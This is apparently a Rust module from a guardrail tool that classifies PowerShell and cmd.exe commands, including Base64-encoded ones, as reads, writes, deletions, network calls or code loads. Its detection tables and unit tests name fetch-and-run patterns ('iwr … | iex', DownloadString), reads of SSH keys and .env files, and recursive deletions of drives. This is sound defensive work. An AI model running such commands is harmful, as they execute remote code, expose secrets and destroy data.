//! PowerShell and the lines of `cmd.exe`: read for what they plainly say. Neither is followed, so a
//! text is [`Act::Opaque`] unless it is nothing but commands that only look, with plain words; a
//! command that is none of their own is judged as one of the shell's.

use std::borrow::Cow;

use super::{Act, Found, Known};

/// What a command does, as far as its name tells.
#[derive(Clone, Copy)]
enum Deed {
    /// Nothing that is not said by the text being opaque.
    Own,
    /// Only shows something, whatever its words are.
    Shows,
    /// The same of the places that its words name.
    Lists,
    /// The same of what is in the files that its words name.
    Reads,
    Delete,
    Write,
    Network,
    /// Runs what only running it tells.
    Run,
}

/// Commands of PowerShell and their aliases, in small letters, sorted.
#[rustfmt::skip]
const POWERSHELL: &[(&str, Deed)] = &[
    ("ac", Deed::Write), ("add-content", Deed::Write), ("add-type", Deed::Run), ("cat", Deed::Reads),
    ("cd", Deed::Own), ("clc", Deed::Delete), ("clear-content", Deed::Delete), ("clear-disk", Deed::Delete),
    ("clear-eventlog", Deed::Delete), ("clear-item", Deed::Delete), ("convertfrom-csv", Deed::Shows),
    ("convertfrom-json", Deed::Shows), ("convertto-csv", Deed::Shows), ("convertto-html", Deed::Shows),
    ("convertto-json", Deed::Shows), ("convertto-xml", Deed::Shows), ("copy", Deed::Write),
    ("copy-item", Deed::Write), ("cp", Deed::Write), ("curl", Deed::Network), ("del", Deed::Delete),
    ("dir", Deed::Lists), ("echo", Deed::Own), ("erase", Deed::Delete), ("export-csv", Deed::Write),
    ("fl", Deed::Shows), ("foreach", Deed::Own), ("foreach-object", Deed::Run), ("format-list", Deed::Shows),
    ("format-table", Deed::Shows), ("format-volume", Deed::Delete), ("ft", Deed::Shows), ("gc", Deed::Reads),
    ("gci", Deed::Lists), ("get-acl", Deed::Lists), ("get-alias", Deed::Shows),
    ("get-childitem", Deed::Lists), ("get-computerinfo", Deed::Shows), ("get-content", Deed::Reads),
    ("get-culture", Deed::Shows), ("get-date", Deed::Shows), ("get-disk", Deed::Shows),
    ("get-eventlog", Deed::Shows), ("get-filehash", Deed::Reads), ("get-host", Deed::Shows),
    ("get-hotfix", Deed::Shows), ("get-item", Deed::Lists), ("get-location", Deed::Shows),
    ("get-member", Deed::Shows), ("get-netadapter", Deed::Shows), ("get-netipaddress", Deed::Shows),
    ("get-nettcpconnection", Deed::Shows), ("get-process", Deed::Shows), ("get-psdrive", Deed::Shows),
    ("get-service", Deed::Shows), ("get-timezone", Deed::Shows), ("get-uptime", Deed::Shows),
    ("get-volume", Deed::Shows), ("get-winevent", Deed::Shows), ("gl", Deed::Shows), ("gps", Deed::Shows),
    ("group-object", Deed::Shows), ("gsv", Deed::Shows), ("icm", Deed::Run), ("iex", Deed::Run),
    ("ii", Deed::Run), ("import-module", Deed::Run), ("initialize-disk", Deed::Delete),
    ("invoke-cimmethod", Deed::Run), ("invoke-command", Deed::Run), ("invoke-expression", Deed::Run),
    ("invoke-item", Deed::Run), ("invoke-restmethod", Deed::Network), ("invoke-webrequest", Deed::Network),
    ("invoke-wmimethod", Deed::Run), ("ipmo", Deed::Run), ("irm", Deed::Network), ("iwr", Deed::Network),
    ("ls", Deed::Lists), ("measure", Deed::Shows), ("measure-object", Deed::Shows), ("mi", Deed::Write),
    ("move", Deed::Write), ("move-item", Deed::Write), ("mv", Deed::Write), ("new-item", Deed::Write),
    ("new-object", Deed::Run), ("new-service", Deed::Run), ("ni", Deed::Write), ("out-file", Deed::Write),
    ("out-host", Deed::Shows), ("out-string", Deed::Shows), ("powershell", Deed::Run),
    ("powershell.exe", Deed::Run), ("ps", Deed::Own), ("pwd", Deed::Shows), ("pwsh", Deed::Run),
    ("rd", Deed::Delete), ("register-scheduledtask", Deed::Run), ("remove-item", Deed::Delete),
    ("remove-itemproperty", Deed::Delete), ("remove-partition", Deed::Delete), ("ren", Deed::Write),
    ("rename-item", Deed::Write), ("resolve-path", Deed::Lists), ("ri", Deed::Delete), ("rm", Deed::Delete),
    ("rmdir", Deed::Delete), ("saps", Deed::Run), ("sc", Deed::Write), ("select", Deed::Shows),
    ("select-object", Deed::Shows), ("select-string", Deed::Reads), ("set-content", Deed::Write),
    ("set-itemproperty", Deed::Write), ("sls", Deed::Reads), ("sort", Deed::Own),
    ("sort-object", Deed::Shows), ("split-path", Deed::Shows), ("start", Deed::Run),
    ("start-bitstransfer", Deed::Network), ("start-job", Deed::Run), ("start-process", Deed::Run),
    ("tee", Deed::Write), ("tee-object", Deed::Write), ("test-path", Deed::Lists), ("type", Deed::Reads),
    ("wget", Deed::Network), ("where", Deed::Shows), ("where-object", Deed::Shows),
    ("write-host", Deed::Shows), ("write-output", Deed::Shows),
];

/// Commands of `cmd.exe`, sorted.
#[rustfmt::skip]
const CMD: &[(&str, Deed)] = &[
    ("assoc", Deed::Own), ("call", Deed::Run), ("cd", Deed::Own), ("chdir", Deed::Own), ("cls", Deed::Own),
    ("copy", Deed::Write), ("del", Deed::Delete), ("dir", Deed::Lists), ("echo", Deed::Own),
    ("erase", Deed::Delete), ("for", Deed::Run), ("format", Deed::Delete), ("if", Deed::Run),
    ("md", Deed::Write), ("mkdir", Deed::Write), ("mklink", Deed::Write), ("move", Deed::Write),
    ("path", Deed::Own), ("rd", Deed::Delete), ("rem", Deed::Own), ("ren", Deed::Write),
    ("rename", Deed::Write), ("rmdir", Deed::Delete), ("robocopy", Deed::Write), ("set", Deed::Own),
    ("start", Deed::Run), ("type", Deed::Reads), ("ver", Deed::Shows), ("vol", Deed::Shows),
    ("xcopy", Deed::Write),
];

/// Parameters that reach another machine, or act as somebody else.
const ELSEWHERE: &[&str] =
    &["asjob", "cimsession", "cn", "computername", "credential", "session", "username", "vmname"];

/// Pieces of a PowerShell text, in small letters, that reach out of it wherever they stand.
const REACHES: &[(&str, Deed)] = &[
    ("downloadstring", Deed::Run),
    ("downloadfile", Deed::Network),
    ("net.webclient", Deed::Network),
    ("frombase64string", Deed::Run),
    ("[scriptblock]", Deed::Run),
    ("[reflection.assembly]", Deed::Run),
    ("iex", Deed::Run),
    ("invoke-expression", Deed::Run),
    ("net.sockets", Deed::Network),
    ("[io.file]::", Deed::Write),
    ("[system.io.file]::", Deed::Write),
    ("$env:", Deed::Own),
];

/// Statements of one text that are looked at.
const MOST: usize = 256;

/// What a PowerShell text plainly does.
pub(super) fn powershell(text: &[u8]) -> Vec<Found<'_>> {
    if let Some(found) = powershell_looks(text) {
        return found;
    }
    let mut found = vec![Found { act: Act::Opaque, at: 0..text.len() }];
    let small = text.to_ascii_lowercase();
    for (piece, deed) in REACHES {
        if let Some(at) = small.windows(piece.len()).position(|window| window == piece.as_bytes()) {
            found.extend(deed.of(None).map(|act| Found { act, at: at..at + piece.len() }));
        }
    }
    statements(text, (b";|{}\n&()", b'-'), POWERSHELL, &mut found);
    found
}

/// The pipeline of which a text asks for a field: `(Get-Item a.txt).Length`.
fn asked_for_field(text: &[u8]) -> Option<&[u8]> {
    let inside = text.trim_ascii().strip_prefix(b"(")?;
    let end = inside.iter().position(|byte| matches!(byte, b'(' | b')'))?;
    let (pipeline, fields) = inside.split_at_checked(end)?;
    let fields = fields.strip_prefix(b")")?;
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'.' | b'_' | b'[' | b']');
    fields.iter().all(plain).then_some(pipeline)
}

/// What a text reads that is nothing but pipelines of commands which only look, of plain words.
fn powershell_looks(text: &[u8]) -> Option<Vec<Found<'_>>> {
    let text = asked_for_field(text).unwrap_or(text);
    let mut found = Vec::new();
    let mut words: Vec<&[u8]> = Vec::new();
    // Where a word begins, and the quote that it stands in.
    let (mut start, mut quote) = (None, None);
    for (at, byte) in text.iter().copied().enumerate().chain([(text.len(), b';')]) {
        match (quote, byte) {
            (Some(b'"'), b'$' | b'`') | (_, b'\0'..=b'\x08' | b'\x7f'..) => return None,
            (Some(open), _) if byte != open => {}
            (Some(_), _) => {
                // What stands right behind a quote is a word of its own, or a part of that one.
                if !matches!(text.get(at + 1), None | Some(b' ' | b'\t' | b'\r' | b'\n' | b'|' | b';')) {
                    return None;
                }
                words.push(text.get(start.take()?..at)?);
                quote = None;
            }
            (None, b'\'' | b'"') if start.is_none() => (start, quote) = (Some(at + 1), Some(byte)),
            (None, b' ' | b'\t' | b'\r' | b'\n' | b'|' | b';') => {
                if let Some(start) = start.take() {
                    words.push(text.get(start..at)?);
                }
                if !matches!(byte, b' ' | b'\t') {
                    only_looks(&std::mem::take(&mut words), &mut found)?;
                }
            }
            (None, b'-' | b'_' | b'.' | b',' | b':' | b'/' | b'\\' | b'*' | b'?' | b'=' | b'+') => {
                start = start.or(Some(at));
            }
            (None, _) if byte.is_ascii_alphanumeric() => start = start.or(Some(at)),
            _ => return None,
        }
    }
    quote.is_none().then(|| found.into_iter().map(|act| Found { act, at: 0..text.len() }).collect())
}

/// One command of a pipeline; `None` if it may do more than look.
fn only_looks<'t>(words: &[&'t [u8]], found: &mut Vec<Act<'t>>) -> Option<()> {
    let Some((name, rest)) = words.split_first() else { return Some(()) };
    let deed = looking(POWERSHELL, name)?;
    for word in rest {
        let Some(parameter) = word.strip_prefix(b"-") else {
            // A list of several.
            found.extend(word.split(|byte| *byte == b',').filter_map(|word| deed.looks_at(word)));
            continue;
        };
        let mut parts = parameter.splitn(2, |byte| *byte == b':');
        // As much of a name as tells it from others stands for it.
        let name = parts.next().unwrap_or_default().to_ascii_lowercase();
        if ELSEWHERE.iter().any(|known| known.as_bytes().starts_with(&name)) {
            return None;
        }
        let values = parts.flat_map(|value| value.split(|byte| *byte == b','));
        found.extend(values.filter_map(|word| deed.looks_at(word)));
    }
    Some(())
}

/// What a command does that only looks.
fn looking(known: &[(&str, Deed)], name: &[u8]) -> Option<Deed> {
    let name = name.to_ascii_lowercase();
    let place = known.binary_search_by(|(known, _)| known.as_bytes().cmp(&name)).ok()?;
    let (_, deed) = known.get(place)?;
    matches!(deed, Deed::Shows | Deed::Lists | Deed::Reads).then_some(*deed)
}

/// The same of what `-EncodedCommand` holds. Whoever hides a text has a reason.
pub(super) fn encoded(text: &[u8]) -> Vec<Found<'_>> {
    let all = 0..text.len();
    let mut found = vec![Found { act: Act::Load(None), at: all.clone() }];
    match decode(text) {
        Some(plain) => {
            let acts = powershell(plain.as_bytes()).into_iter();
            found.extend(acts.map(|one| Found { act: owned(one.act), at: all.clone() }));
        }
        None => found.push(Found { act: Act::Opaque, at: all }),
    }
    found
}

/// What the lines of `cmd.exe` plainly do.
pub(super) fn cmd(text: &[u8]) -> Vec<Found<'_>> {
    if let Some(found) = cmd_looks(text) {
        return found;
    }
    let mut found = vec![Found { act: Act::Opaque, at: 0..text.len() }];
    statements(text, (b"&|\n()", b'/'), CMD, &mut found);
    found
}

/// The same of one command of `cmd.exe` that only looks.
fn cmd_looks(text: &[u8]) -> Option<Vec<Found<'_>>> {
    let plain = |byte: &u8| {
        byte.is_ascii_alphanumeric()
            || matches!(byte, b' ' | b'/' | b'\\' | b'.' | b'_' | b'-' | b'*' | b'?' | b':')
    };
    if !text.iter().all(plain) {
        return None;
    }
    let mut words = text.split(|byte| *byte == b' ').filter(|word| !word.is_empty());
    let deed = looking(CMD, words.next()?)?;
    let mut found = Vec::new();
    for word in words.filter(|word| !word.starts_with(b"/")) {
        // A switch may stand behind a name without a blank.
        if word.contains(&b'/') {
            return None;
        }
        found.extend(deed.looks_at(word).map(|act| Found { act, at: 0..text.len() }));
    }
    Some(found)
}

/// What the statements between `ends` are, by their first words; a `switch` begins what is no path.
fn statements<'t>(
    text: &'t [u8],
    (ends, switch): (&[u8], u8),
    known: &[(&str, Deed)],
    found: &mut Vec<Found<'t>>,
) {
    let mut start = 0;
    for statement in text.split(|byte| ends.contains(byte)).take(MOST) {
        let at = start..start + statement.len();
        start += statement.len() + 1;
        let statement = statement.trim_ascii();
        if let Some(to) = statement.iter().position(|byte| *byte == b'>') {
            let path = statement.get(to..).unwrap_or_default().trim_ascii_start();
            let path = path.strip_prefix(b">>").or(path.strip_prefix(b">")).unwrap_or_default().trim_ascii();
            found.push(Found { act: Act::Write(plain_path(path)), at: at.clone() });
        }
        let mut words = statement.split(u8::is_ascii_whitespace).filter(|word| !word.is_empty());
        let Some(first) = words.next() else { continue };
        let name = first.to_ascii_lowercase();
        let name = name.strip_prefix(b".\\").unwrap_or(&name);
        let act = match known.binary_search_by(|(known, _)| known.as_bytes().cmp(name)) {
            Ok(place) => {
                let mut values = words.filter(|word| word.first() != Some(&switch));
                let only = values.next().filter(|_| values.next().is_none());
                known.get(place).and_then(|(_, deed)| deed.of(only.and_then(plain_path)))
            }
            Err(_) if is_verb_noun(name) || !is_plain(statement) => None,
            Err(_) => Some(Act::Shell(Some(Cow::Borrowed(statement)))),
        };
        found.extend(act.map(|act| Found { act, at }));
    }
}

impl Deed {
    fn of(self, value: Known<'_>) -> Option<Act<'_>> {
        match self {
            Self::Own | Self::Shows | Self::Lists | Self::Reads => None,
            Self::Delete => Some(Act::Delete(value)),
            Self::Write => Some(Act::Write(value)),
            Self::Network => Some(Act::Network(None)),
            Self::Run => Some(Act::Load(None)),
        }
    }

    /// What looking at a place reads: what is in it, or only what is there.
    fn looks_at(self, word: &[u8]) -> Option<Act<'static>> {
        let path: Vec<u8> = word.iter().map(|byte| if *byte == b'\\' { b'/' } else { *byte }).collect();
        // A drive may be the environment, the registry or a store of keys; to ask another machine is to sign in there.
        if !matches!(self, Self::Shows) && (path.contains(&b':') || path.starts_with(b"//")) {
            return Some(Act::Read(None));
        }
        let Self::Reads = self else { return None };
        // A pattern also finds what is hidden, unless it asks for all files of one kind.
        let is_wild = |text: &[u8]| text.iter().any(|byte| matches!(byte, b'*' | b'?' | b'['));
        let kind = |text: &[u8]| text == b"*" || text.strip_prefix(b"*.").is_some_and(|kind| !is_wild(kind));
        let last = path.iter().rposition(|byte| *byte == b'/').map_or(0, |at| at + 1);
        let (above, name) = path.split_at_checked(last)?;
        let known = !is_wild(above) && (!is_wild(name) || kind(name));
        Some(Act::Read(known.then_some(Cow::Owned(path))))
    }
}

/// `Get-Item`: one of the many commands of PowerShell that are not named here.
fn is_verb_noun(name: &[u8]) -> bool {
    let mut halves = name.splitn(2, |byte| *byte == b'-');
    let letters = |half: &[u8]| !half.is_empty() && half.iter().all(u8::is_ascii_alphabetic);
    halves.next().is_some_and(letters) && halves.next().is_some_and(letters)
}

/// Whether a command means the same to a shell.
fn is_plain(text: &[u8]) -> bool {
    !text.iter().any(|byte| matches!(byte, b'$' | b'`' | b'@' | b'%' | b'^' | b'\\' | b'=' | b'[' | b'#'))
}

/// A path that means the same here.
fn plain_path(word: &[u8]) -> Known<'_> {
    let quoted = |quote: &[u8]| word.strip_prefix(quote)?.strip_suffix(quote);
    let word = quoted(b"\"").or_else(|| quoted(b"'")).unwrap_or(word);
    let plain = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'/' | b'.' | b'_' | b'-');
    (!word.is_empty() && word.iter().all(plain)).then_some(Cow::Borrowed(word))
}

/// UTF-16 of the little end, in Base64.
fn decode(text: &[u8]) -> Option<String> {
    let mut bytes = Vec::with_capacity(text.len() / 4 * 3);
    let (mut bits, mut count) = (0_u32, 0_u32);
    for byte in text.iter().filter(|byte| **byte != b'=') {
        let value = match byte {
            b'A'..=b'Z' => byte - b'A',
            b'a'..=b'z' => byte - b'a' + 26,
            b'0'..=b'9' => byte - b'0' + 52,
            b'+' => 62,
            b'/' => 63,
            _ => return None,
        };
        bits = (bits << 6) | u32::from(value);
        count += 6;
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count) as u8);
        }
    }
    let units = bytes.chunks_exact(2).filter_map(|pair| Some(u16::from_le_bytes(pair.try_into().ok()?)));
    Some(char::decode_utf16(units).map(|unit| unit.unwrap_or(char::REPLACEMENT_CHARACTER)).collect())
}

fn owned(act: Act<'_>) -> Act<'static> {
    let keep = |value: Known<'_>| value.map(|value| Cow::Owned(value.into_owned()));
    match act {
        Act::Shell(value) => Act::Shell(keep(value)),
        Act::Write(value) => Act::Write(keep(value)),
        Act::Delete(value) => Act::Delete(keep(value)),
        Act::Network(value) => Act::Network(keep(value)),
        Act::Load(value) => Act::Load(keep(value)),
        _ => Act::Opaque,
    }
}

#[cfg(test)]
mod tests {
    use guardrail_schema::Language::{Cmd, EncodedPowerShell, PowerShell};

    use super::super::testing::check;
    use super::*;

    #[test]
    fn tables_are_sorted() {
        assert!(POWERSHELL.is_sorted_by(|a, b| a.0 < b.0));
        assert!(CMD.is_sorted_by(|a, b| a.0 < b.0));
    }

    #[test]
    fn powershell_is_never_followed_and_says_what_it_says() {
        check(
            PowerShell,
            &[
                ("Get-ChildItem | Sort-Object Length -Descending | Select-Object -First 5 Name,Length", &[]),
                ("Get-Content .\\a.json -Tail 20; Test-Path 'b c'", &["read:./a.json", "read:20"]),
                ("gci env:", &["read:?"]),
                ("Get-Content \\\\h\\share\\x", &["read:?"]),
                ("Get-Process -ComputerName h", &["opaque"]),
                ("Get-Process | Select-Object @{n='a';e={evil}}", &["opaque", "shell:evil"]),
                ("Get-Process -c h", &["opaque"]),
                ("Get-Process -ComputerName:h", &["opaque"]),
                (
                    "Select-String -Path src\\*.cs -Pattern 'a b' -Context 2",
                    &["read:src/*.cs", "read:a b", "read:2"],
                ),
                ("Get-Content '.env'x", &["opaque"]),
                ("Get-Content a,.env -Path:b", &["read:a", "read:.env", "read:b"]),
                ("gc .e*; gc '.en[v]'; gc *.txt", &["read:?", "read:?", "read:*.txt"]),
                ("sort -o a b", &["opaque"]),
                ("Get-Content $(evil)", &["opaque", "shell:evil"]),
                ("Get-Date `\nRemove-Item x", &["opaque", "delete:x"]),
                ("Remove-Item -Recurse build", &["opaque", "delete:build"]),
                ("rm -r C:\\", &["opaque", "delete:?"]),
                ("iwr http://h | iex", &["opaque", "load:?", "network:?", "load:?"]),
                ("kubectl delete ns prod", &["opaque", "shell:kubectl delete ns prod"]),
                ("Get-Date > out.txt", &["opaque", "write:out.txt"]),
            ],
        );
    }

    #[test]
    fn encoded_text_is_decoded() {
        let encode = |text: &str| {
            const LETTERS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
            let bytes: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
            let mut out = String::new();
            for chunk in bytes.chunks(3) {
                let bits = chunk.iter().fold(0_u32, |bits, byte| (bits << 8) | u32::from(*byte))
                    << (8 * (3 - chunk.len()));
                for place in 0..=chunk.len() {
                    out.push(LETTERS[(bits >> (18 - 6 * place)) as usize & 63] as char);
                }
            }
            out
        };
        let text = encode("rm /srv/x");
        check(
            EncodedPowerShell,
            &[(&text, &["load:?", "opaque", "delete:/srv/x"]), ("%%", &["load:?", "opaque"])],
        );
    }

    #[test]
    fn lines_of_cmd() {
        check(
            Cmd,
            &[
                ("dir /s /b *.sln", &[]),
                ("type .e*", &["read:?"]),
                ("type .env/y", &["opaque"]),
                ("type C:\\Users\\x\\.ssh\\id_rsa", &["read:?"]),
                ("dir %TEMP%", &["opaque"]),
                ("del /s /q x", &["opaque", "delete:x"]),
                ("rd /s /q C:\\x & git push", &["opaque", "delete:?", "shell:git push"]),
                ("type a > b", &["opaque", "write:b"]),
            ],
        );
    }
}
